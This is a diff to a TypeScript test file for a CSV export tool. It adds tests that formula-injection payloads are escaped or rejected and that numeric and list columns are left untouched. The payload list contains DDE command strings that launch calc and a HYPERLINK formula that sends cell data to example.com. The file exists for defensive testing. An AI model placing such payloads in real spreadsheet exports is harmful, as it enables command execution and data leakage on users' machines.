@@ -16,7 +16,18 @@ import { exportOf, freshStore, readText, requestOf } from './kit.ts'
 const payloads = (delimiter: string): readonly string[] => [
   ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
   ...[`=cmd|' /C calc'!A0`, '=HYPERLINK("http://example.com/?leak="&A1,"look")', '=1+1";=1+1', "-2+3+cmd|' /C calc'!A0", '@', '='],
-  ...[`a${delimiter}=1+1`, 'a"=1+1', 'a\n=1+1', 'a\r\n+1+1', 'a\t@SUM(1)', `"${delimiter}-1+1`, `a${delimiter}${delimiter}＝1`, '"=1+1"'],
+  ...[
+    `a${delimiter}=1+1`,
+    'a"=1+1',
+    'a\n=1+1',
+    'a\r\n+1+1',
+    'a\t@SUM(1)',
+    'a;=1+1',
+    'a,@SUM(1)',
+    `"${delimiter}-1+1`,
+    `a${delimiter}${delimiter}＝1`,
+    '"=1+1"',
+  ],
 ]
 
 const PLACES = ['first', 'middle', 'last'] as const
@@ -58,8 +69,8 @@ test.each(DELIMITERS)(
         )
         expect(seen).toEqual(PLACES.flatMap(() => expected.map(written)))
         const cells = [header, ...records].flat().map((field) => field.text)
-        // A reader that knows nothing of quotes begins a cell after each delimiter, quote and line end.
-        const pieces = text.split(new RegExp(`[${delimiter === '|' ? '\\|' : delimiter}"\\t\\r\\n]`, 'u'))
+        // A reader that knows nothing of quotes begins a cell after each delimiter, its own or the contract's, quote and line end.
+        const pieces = text.split(new RegExp(`[${delimiter === '|' ? '\\|' : delimiter},;"\\t\\r\\n]`, 'u'))
         const found = [cells.filter((cell) => BEGINS.test(cell)).length, pieces.filter((piece) => SIGN.test(piece)).length]
         if (formulas === 'escape') expect(found, quoting).toEqual([0, 0])
         else
@@ -92,4 +103,24 @@ test.each(DELIMITERS)('formulas in header, first, middle and last column, delimi
   } finally {
     db.close()
   }
+})
+
+test('numbers are never touched, in a list neither: what is refused or escaped are texts', async () => {
+  const columns = { id: 'int64', line: 'list(int64)', point: 'struct(x int64, y list(float64))', words: 'list(text)' } as const
+  const dataset = await datasetOf(
+    temporaryFolder(),
+    'd',
+    columns,
+    "SELECT 1 AS id, [1, -3] AS line, {'x': -1, 'y': [0.5, -2.5]} AS point, ['=1', 'b'] AS words",
+  )
+  const delivered = async (formulas: 'escape' | 'reject', names: Partial<typeof columns>) => {
+    const store = freshStore(temporaryFolder())
+    const target = exportOf('d.csv', { columns: names as typeof columns, orderBy: ['id'], delimiter: ';', quoting: 'all', formulas })
+    const { files } = await deliver(requestOf(dataset, { export: target, partition: undefined }), store, testContext())
+    return readText(store, files[0] ?? '')
+  }
+  const { words, ...numbers } = columns
+  expect(await delivered('reject', numbers)).toContain('"1";"[1,-3]";"{""x"":-1,""y"":[0.5,-2.5]}"')
+  expect(await delivered('escape', columns)).toContain(`"[1,-3]";"{""x"":-1,""y"":[0.5,-2.5]}";"[""'=1"",""b""]"`)
+  await expect(delivered('reject', { id: columns.id, words })).rejects.toThrow('"words" is a formula to a spreadsheet in 1 of 1 rows')
 })
